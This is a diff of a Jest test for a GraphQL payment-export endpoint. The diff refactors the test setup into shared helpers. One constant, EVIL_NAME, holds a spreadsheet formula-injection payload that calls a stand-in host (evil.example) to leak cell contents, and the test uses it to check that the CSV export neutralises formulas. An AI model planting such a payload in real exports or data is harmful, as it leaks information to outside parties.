@@ -3,9 +3,10 @@
 // and never exported again, also when two exports run at once. Spreadsheet formulas in
 // the CSV are neutralised.
 import { ManualClock } from "../../server/src/clock";
-import { CompensationWorld, csvRecords, failure, parseCsv, type KeyPerson, type Organisation } from "../support/compensation-fixtures";
-import { gql, ok, rowCounts, type GraphQLResponse } from "../support/graphql";
-import { startTestServer, type TestServer } from "../support/server";
+import { organisationFunder } from "../../server/src/domain/funder";
+import { CompensationWorld, startCompensationSuite, csvRecords, failure, parseCsv, refusedUnchanged, type KeyPerson, type Organisation } from "../support/compensation-fixtures";
+import { gql, ok, type GraphQLResponse } from "../support/graphql";
+import type { TestServer } from "../support/server";
 
 jest.setTimeout(60_000);
 
@@ -16,10 +17,7 @@ const EVIL_NAME = `=HYPERLINK("http://evil.example/?leak="&A1;"Click")`;
 const SET_IBAN = `mutation($k: ID!, $iban: String!) { setPaymentDetails(keyPersonId: $k, iban: $iban) }`;
 const EXPORTS = `{ paymentExports(perPage: 100) { total items { id funder periodFrom periodTo lineCount totalCents } } }`;
 
-let server: TestServer;
-let world: CompensationWorld;
-let orgA: Organisation;
-let orgB: Organisation;
+let server: TestServer, world: CompensationWorld, orgA: Organisation, orgB: Organisation;
 let amina: KeyPerson;
 let evil: KeyPerson;
 let aminaA: string;
@@ -28,9 +26,7 @@ let aminaScheme: string;
 let evilA: string;
 
 beforeAll(async () => {
-  server = await startTestServer({ clock });
-  world = await CompensationWorld.create(server, clock);
-  [orgA, orgB] = await Promise.all([world.organisation("GGD A"), world.organisation("COA B")]);
+  ({ server, world, orgA, orgB } = await startCompensationSuite(clock));
   [amina, evil] = await Promise.all([world.keyPerson({ name: "Amina Yusuf" }), world.keyPerson({ name: EVIL_NAME })]);
   aminaA = await world.assignment(orgA, amina);
   aminaB = await world.assignment(orgB, amina);
@@ -40,12 +36,7 @@ beforeAll(async () => {
 });
 afterAll(async () => { await server?.stop(); });
 
-async function refused(run: () => Promise<GraphQLResponse>) {
-  const before = await rowCounts(server.dataSource);
-  const result = failure(await run());
-  expect(await rowCounts(server.dataSource)).toEqual(before);
-  return result;
-}
+const refused = (run: () => Promise<GraphQLResponse>) => refusedUnchanged(server, run);
 
 const reference = (type: "H" | "C", id: string) => `${type}-${id}`;
 
@@ -95,7 +86,7 @@ describe("exporting payments", () => {
 
     const batch = await world.export(orgA.token, orgA.id, "2025-04-01", "2025-04-30");
     firstBatch = batch;
-    expect(batch).toMatchObject({ funder: `ORGANISATION:${orgA.id}`, periodFrom: "2025-04-01", periodTo: "2025-04-30", lineCount: 6, totalCents: 7658 });
+    expect(batch).toMatchObject({ funder: organisationFunder(Number(orgA.id)), periodFrom: "2025-04-01", periodTo: "2025-04-30", lineCount: 6, totalCents: 7658 });
     expect(parseCsv(batch.csv)[0]).toEqual(HEADER);
     expect(batch.csv.endsWith("\r\n")).toBe(true);
     const lines = csvRecords(batch.csv);
